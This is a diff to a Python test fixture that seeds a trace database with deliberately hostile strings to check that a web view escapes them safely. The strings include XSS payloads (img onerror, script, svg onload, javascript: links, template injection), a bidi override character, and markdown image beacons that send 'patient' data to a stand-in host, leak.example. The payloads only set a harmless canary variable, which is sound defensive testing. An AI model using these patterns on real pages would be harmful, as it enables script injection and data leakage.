@@ -9,10 +9,14 @@ from tests.storage.samples import COMPLETED, begin, finish
 HOSTILE = (
     "<img src=x onerror=window.__hit=1><script>window.__hit=2</script>\n"
     "![leak](https://leak.example/p.png?q=patient) [click](javascript:window.__hit=3)\n"
-    "<b>bold</b> &lt;kept&gt; {{value}} ${window.__hit=4} \U0001f9ec\u200d\U0001fac0 \u05e9\u05dc\u05d5\u05dd \u202eabc\u202c"
+    "<b>bold</b> &lt;kept&gt; {{value}} ${window.__hit=4} "
+    "\U0001f9ec\u200d\U0001fac0 \u05e9\u05dc\u05d5\u05dd \u202eabc\u202c"
 )
 HOSTILE_STEM = "Hostile stem <img src=x onerror=window.__hit=5> ![s](https://leak.example/s.png)"
 HOSTILE_OPTION = "<svg onload=window.__hit=6> option"
+FILLER_COUNT = 30
+"""More than the history shows at once; older than the other rows."""
+HOSTILE_MODEL = "<i>model</i> {{value}} ${window.__hit=10}"
 HOSTILE_ERROR = "Hostile error <img src=x onerror=window.__hit=7>"
 
 
@@ -21,6 +25,9 @@ def store_traces(home: Path) -> None:
     database = Database(f"sqlite:///{home / 'm1.sqlite3'}")
     database.migrate()
     try:
+        for number in range(FILLER_COUNT):
+            filler = begin(database, NewQuestion(stem=f"Filler question {number}?"))
+            finish(database, filler, _segment(SegmentKind.ANSWER, "Filler.", 1))
         _store_hostile(database)
         _store_plain(database)
     finally:
@@ -31,7 +38,7 @@ def _store_hostile(database: Database) -> None:
     question = NewQuestion(
         stem=HOSTILE_STEM, options={"A": HOSTILE_OPTION, "B": "![o](https://leak.example/o)"}, target="A"
     )
-    trace = begin(database, question, model="<i>model</i>", system_prompt="<img src=x onerror=window.__hit=8>")
+    trace = begin(database, question, model=HOSTILE_MODEL, system_prompt="<img src=x onerror=window.__hit=8>")
     outcome = TraceOutcome(
         state=TraceState.FAILED,
         thinking_finish_reason=ThinkingFinishReason.FAILED,
